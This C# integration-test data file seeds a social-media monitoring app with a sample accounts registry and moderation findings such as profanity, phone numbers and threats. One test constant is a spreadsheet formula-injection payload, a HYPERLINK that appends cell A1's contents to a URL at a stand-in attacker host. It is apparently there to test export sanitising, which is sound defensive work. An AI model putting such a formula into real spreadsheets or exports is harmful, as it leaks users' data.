using SocialMonitor.Core.Evaluation;
using SocialMonitor.Core.Policies;
using SocialMonitor.Core.Queues;
using SocialMonitor.Core.Review;
using Microsoft.Extensions.DependencyInjection;
using SocialMonitor.Core.Accounts;
using SocialMonitor.Core.Findings;
using SocialMonitor.Core.Rules;
using SocialMonitor.IntegrationTests.Support;

namespace SocialMonitor.IntegrationTests.Api;

/// <summary>The API tests' own registry (three locations, one without a manager) and findings across locations, rules and platforms.</summary>
internal static class ApiData
{
    public const string CoordinatorEmail = "coordinator@example.org";
    public const string HaydenManagerEmail = "sam.lee@example.org";
    public const string HaydenManagerObjectId = "6d0f4f0e-8f3c-4d7a-9b1e-2a5c7e9d1f30";
    public const string RathdrumManagerEmail = "pat.kim@example.org";

    /// <summary>A guest's comment made to run as a formula in a spreadsheet.</summary>
    public const string FormulaEvidence = "=HYPERLINK(\"http://evil.example/steal?c=\"&A1,\"click\")";

    public const string AccountsJson = """
        {"coordinator": {"name": "Jordan Avery", "email": "coordinator@example.org", "objectId": null},
         "locations": [
           {"id": "hayden", "name": "Hayden", "managers": [{"name": "Sam Lee", "email": "sam.lee@example.org", "objectId": "6d0f4f0e-8f3c-4d7a-9b1e-2a5c7e9d1f30"}]},
           {"id": "rathdrum", "name": "Rathdrum", "managers": [{"name": "Pat Kim", "email": "pat.kim@example.org", "objectId": null}]},
           {"id": "bookmobile", "name": "Bookmobile", "managers": []}],
         "accounts": [
           {"id": "cln-hayden-fb", "platform": "facebook", "platformId": "104000000000099", "handle": "CLNHayden",
            "location": "hayden", "token": "cln-hayden-fb-token", "approvedBy": "coordinator@example.org", "approvedOn": "2026-01-05"},
           {"id": "cln-hayden-ig", "platform": "instagram", "platformId": "17841400000000099", "handle": "clnhayden",
            "location": "hayden", "token": "cln-hayden-ig-token", "approvedBy": "coordinator@example.org", "approvedOn": "2026-01-05"},
           {"id": "cln-rathdrum-fb", "platform": "facebook", "platformId": "104000000000097", "handle": "CLNRathdrum",
            "location": "rathdrum", "token": "cln-rathdrum-fb-token", "approvedBy": "coordinator@example.org", "approvedOn": "2026-01-05"},
           {"id": "cln-bookmobile-fb", "platform": "facebook", "platformId": "104000000000098", "handle": "CLNBookmobile",
            "location": "bookmobile", "token": "cln-bookmobile-fb-token", "approvedBy": "coordinator@example.org", "approvedOn": "2026-01-05"}]}
        """;

    /// <summary>
    /// Imports the registry, then evaluates the daily review's location items as the review would: governance.managers
    /// for the bookmobile (the account items' governance rules have tests of their own).
    /// </summary>
    public static async Task ImportAsync(IServiceProvider services, CancellationToken cancellationToken)
    {
        await services.GetRequiredService<AccountsImporter>().ImportAsync(AccountsFileReader.Read(AccountsJson), cancellationToken);
        var today = services.GetRequiredService<Policy>().LocalDate(services.GetRequiredService<TimeProvider>().GetUtcNow());
        foreach (var location in await services.GetRequiredService<AccountRegistry>().ListLocationsAsync(cancellationToken))
        {
            await services.GetRequiredService<ItemEvaluator>().EvaluateAsync(new EvaluateItemMessage(AccountReviewItem.For(location, today), null), cancellationToken);
        }
    }

    /// <summary>Findings newest first in this order (each an hour older than the one before), besides governance.managers.</summary>
    public static IReadOnlyList<Finding> Findings { get; } =
    [
        Make("hayden", "cln-hayden-fb", "facebook", "link-domain.unapproved", "medium", "1_11", "https://bit.ly/cute-kids", 1),
        Make("hayden", "cln-hayden-ig", "instagram", "conduct.profanity", "medium", "1_12", FormulaEvidence, 2),
        Make("hayden", "cln-hayden-fb", "facebook", "pii.phone", "high", "1_13", "(208) 555-01••", 3),
        Make("rathdrum", "cln-rathdrum-fb", "facebook", "conduct.threat", "critical", "2_21", "I will hurt", 4),
        Make("rathdrum", "cln-rathdrum-fb", "facebook", "link-domain.unapproved", "medium", "2_22", "https://tinyurl.com/x", 5),
        Make("hayden", "cln-hayden-fb", "facebook", "capture.token-expiring", "high", "cln-hayden-fb/token", "token expires 2026-10-20", 6),
        Make(Locations.District, null, "system", "capture.dead-message", "high", "notify/abc", "notify message failed 5 times", 7),
    ];

    public static async Task SeedAsync(IServiceProvider services, CancellationToken cancellationToken)
    {
        var store = services.GetRequiredService<FindingStore>();
        foreach (var finding in Findings)
        {
            await store.TryAddAsync(finding, cancellationToken);
        }
    }

    public static Finding Make(string location, string? account, string platform, string rule, string severity, string itemId, string evidence, int hoursAgo) =>
        Finding.Create(new Detection(rule, severity, "Test clause", evidence, evidence, $"{rule} on {itemId}."), platform, itemId, location, account,
            TestHost.Start.AddHours(-hoursAgo), itemVersion: rule.StartsWith("capture.", StringComparison.Ordinal) ? null : "v1");
}
